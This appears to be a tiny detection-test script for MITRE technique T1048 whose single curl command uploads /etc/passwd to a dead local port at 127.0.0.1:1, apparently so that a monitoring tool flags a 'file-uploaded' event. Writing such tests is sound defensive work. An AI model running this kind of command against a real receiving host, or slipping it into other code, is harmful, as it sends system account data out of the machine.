# title: a file is sent away
# technique: T1048
# expects: file-uploaded
# needs: curl
curl -s -m 1 -F f=@/etc/passwd http://127.0.0.1:1/ || true
